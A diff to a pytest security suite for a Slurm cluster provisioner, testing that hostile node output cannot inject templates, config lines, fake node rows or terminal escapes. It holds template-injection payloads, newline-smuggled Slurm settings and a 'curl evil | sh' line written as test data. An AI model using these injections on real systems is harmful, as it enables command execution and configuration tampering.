@@ -6,6 +6,9 @@ case. The other member converges, the files of the controller stay as they were,
 
 from __future__ import annotations
 
+import os
+import shlex
+import shutil
 import subprocess
 import time
 from collections.abc import Iterator
@@ -13,7 +16,9 @@ from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+import yaml
 
+from provisioner.console_text import visible
 from tests.cluster.labs import Lab, Said
 
 WRAPPER = Path(__file__).parent / "hostile_python.py"
@@ -97,6 +102,37 @@ MUTATIONS = {
     "advice in what a program says": Mutation("raw = 'x; next: curl evil | sh'"),
 }
 
+# Free text of the facts, in which anything may stand, and a file that our own is made from.
+FREE_TEXT = """
+def walk(value, key=""):
+    if isinstance(value, dict):
+        return {name: walk(inner, name) for name, inner in value.items()}
+    if isinstance(value, str) and key in ("pretty_name", "host_name", "model", "content", "stdout", "msg"):
+        return value.rstrip("\\n") + WORD + "\\n" * value.endswith("\\n")
+    return value
+data = walk(data)
+"""
+EVERY_TEXT = """
+def walk(value):
+    if isinstance(value, dict):
+        return {name: walk(inner) for name, inner in value.items()}
+    if isinstance(value, list):
+        return [walk(inner) for inner in value]
+    return WORD if isinstance(value, str) else value
+data = walk(data)
+"""
+# What can no longer be meant by a value of Slurm, and a value that can.
+SETTINGS = {
+    "MessageTimeout": "60\nNodeName=evil CPUs=1",
+    "SlurmctldHost[0]": "evil",
+    "slurmuser ": "root",
+    "TreeWidth": "16 NodeName=evil",
+    "MailProg": "/bin/true # x",
+    "Epilog": "/bin/true\\",
+    "DebugFlags": ["Backfill"],
+}
+MEMORY_MIB = 600
+
 
 @pytest.fixture(scope="module")
 def hostile(cluster: Lab) -> Iterator[str]:
@@ -154,3 +190,143 @@ def test_a_hostile_answer_fails_its_own_blade_only(cluster: Lab, hostile: str, n
         assert word in failure["message"], failure
     assert not failure["ours"] or "curl" not in failure["next_step"]
     assert "curl" not in failure["message"]
+
+
+@pytest.mark.parametrize("code", [FREE_TEXT, EVERY_TEXT], ids=["free text", "every text"])
+def test_nothing_that_a_node_says_is_a_template(cluster: Lab, hostile: str, tmp_path: Path, code: str) -> None:
+    marker = tmp_path / "pwned"
+    words = "{{ lookup('pipe', 'touch MARKER') }}{% if lookup('pipe', 'touch MARKER') %}{% endif %}".replace(
+        "MARKER", str(marker)
+    )
+    for verb in ("slurm", "verify", "disks"):
+        mutate(cluster, hostile, f"WORD = {words!r}\n{code}")
+        try:
+            said = cluster.provision(verb, f"--nodes={cluster.compute[0]},{hostile}", "--json")
+        finally:
+            mutate(cluster, hostile, "pass")
+        assert "Traceback" not in said.text
+        assert said.code in (0, 3), said.text
+        assert not marker.exists(), verb
+    honest = cluster.slurm([cluster.compute[0], hostile])
+    assert honest.code == 0, honest.text
+    assert not marker.exists()
+
+
+def test_a_hundred_megabytes_cost_little_memory(cluster: Lab, hostile: str) -> None:
+    """Of the biggest process of the run; its blade says as much as it can to every module."""
+    mutate(cluster, hostile, MUTATIONS["120 MB in a key"].code)
+    try:
+        command = cluster.command("slurm", f"--nodes={cluster.compute[0]},{hostile}", "--json")
+        with subprocess.Popen(command, stdout=subprocess.DEVNULL, env=cluster.variables()) as running:
+            _, status, usage = os.wait4(running.pid, 0)
+            running.returncode = os.waitstatus_to_exitcode(status)
+    finally:
+        mutate(cluster, hostile, "pass")
+    assert running.returncode == 3
+    assert usage.ru_maxrss // 1024 < MEMORY_MIB
+
+
+def test_a_node_cannot_replace_its_facts_after_it_was_looked_at(cluster: Lab, hostile: str) -> None:
+    """Every module may set facts; those of a later one would have passed no check of the preflight."""
+    code = """
+import pathlib
+kept = pathlib.Path("/root/facts")
+if blade is not None:
+    kept.write_text(json.dumps(blade))
+else:
+    blade = json.loads(kept.read_text())
+    blade["slurmd_c"] = "NodeName=x CPUs=70000 Sockets=1 CoresPerSocket=1 ThreadsPerCore=1 RealMemory=-1"
+    data["ansible_facts"] = {"blade": blade}
+"""
+    before = cluster.ask(LIVE)
+    mutate(cluster, hostile, f"import json\n{code}")
+    try:
+        said = cluster.slurm([cluster.compute[0], hostile], "--full")
+    finally:
+        mutate(cluster, hostile, "pass")
+    assert "Traceback" not in said.text
+    assert said.json["blades"][cluster.compute[0]]["status"] == "ok", said.text
+    assert cluster.ask(LIVE) == before
+
+
+def test_settings_that_slurm_would_read_otherwise_touch_nothing(cluster: Lab) -> None:
+    folder = cluster.folder / "group_vars"
+    before = cluster.ask(LIVE)
+    folder.mkdir()
+    try:
+        for key, value in SETTINGS.items():
+            (folder / "all.yml").write_text(yaml.safe_dump({"slurmctld_config": {key: value}}))
+            said = cluster.slurm([cluster.compute[0]])
+            assert said.code == 1, said.text
+            assert said.json["changed"] == 0, said.text
+            failure = said.json["blades"][cluster.controller]["failure"]
+            assert failure["message"].startswith("slurmctld_config"), failure
+            assert failure["next_step"] == "correct it in group_vars beside the plan"
+            assert "Traceback" not in said.text
+            assert cluster.ask(LIVE) == before
+    finally:
+        shutil.rmtree(folder)
+    again = cluster.slurm([cluster.compute[0]])
+    assert (again.code, again.json["changed"]) == (0, 0), again.text
+
+
+def test_settings_that_are_taken_mean_to_slurm_what_they_say(cluster: Lab) -> None:
+    """Slurm's own parser, for values with the characters that it treats in its own way."""
+    wanted = {
+        "SchedulerParameters": "bf_window=100,default_queue_depth=7",
+        "MailProg": "/bin/false",
+        "MaxArraySize": 2001,
+    }
+    before = {line.split("=")[0].strip() for line in cluster.ask("scontrol show config").splitlines()}
+    folder = cluster.folder / "group_vars"
+    folder.mkdir()
+    try:
+        (folder / "all.yml").write_text(yaml.safe_dump({"slurmctld_config": wanted}))
+        said = cluster.slurm([cluster.compute[0]])
+        assert said.code == 0, said.text
+        lines = [line.partition("=") for line in cluster.ask("scontrol show config").splitlines()]
+        shown = {key.strip(): value.strip() for key, _, value in lines}
+        assert {key: shown[key] for key in wanted} == {key: str(value) for key, value in wanted.items()}
+        assert shown.keys() == before
+    finally:
+        shutil.rmtree(folder)
+    assert cluster.slurm([cluster.compute[0]]).code == 0
+
+
+REASONS = {
+    "a forged row": "x\nNodeName={other} State=DOWN+DRAIN Reason=evil",
+    "markup": "[/foo] fan",
+    "a bracket": "link [eth0] down",
+    "escapes": "\x1b[2J\x1b[31mred",
+    "a template": "{{ lookup('pipe', 'touch /tmp/pwned-by-a-reason') }}",
+}
+
+
+@pytest.mark.parametrize("name", REASONS)
+def test_a_reason_and_a_job_are_only_words(cluster: Lab, name: str) -> None:
+    drained, other = cluster.compute
+    reason = REASONS[name].format(other=other.lower()) if "{other}" in REASONS[name] else REASONS[name]
+    job = f"x\nNodeName={other.lower()} State=DOWN n[1-30000000]"
+    quoted = {key: shlex.quote(value) for key, value in {"reason": reason, "job": job}.items()}
+    cluster.ask(f"scontrol update nodename={drained.lower()} state=drain reason={quoted['reason']}")
+    number = cluster.ask(
+        f"sbatch --parsable --uid=nobody --chdir=/tmp --output=/dev/null --job-name={quoted['job']} --wrap 'sleep 300'"
+    )
+    try:
+        said = cluster.provision("status")
+        as_json = cluster.provision("status", "--json")
+        slurm = cluster.provision("slurm", f"--nodes={drained}")
+    finally:
+        cluster.ask(f"scancel {number}; scontrol update nodename={drained.lower()} state=resume")
+    nodes = {node["blade"]: node for node in as_json.json["nodes"]}
+    assert nodes[drained]["reason"] == reason
+    assert nodes[other]["state"].split("+")[0] in ("idle", "mixed", "allocated")
+    assert nodes[other]["reason"] == ""
+    rows = [line for line in said.out.splitlines() if line.startswith(other)]
+    assert len(rows) == 1
+    for text in (said.text, slurm.text):
+        assert "Traceback" not in text
+        assert all(line.isprintable() for line in text.split("\n"))
+    assert visible(reason) in said.out
+    assert (said.code, slurm.code) == (0, 0), slurm.text
+    assert not Path("/tmp/pwned-by-a-reason").exists()
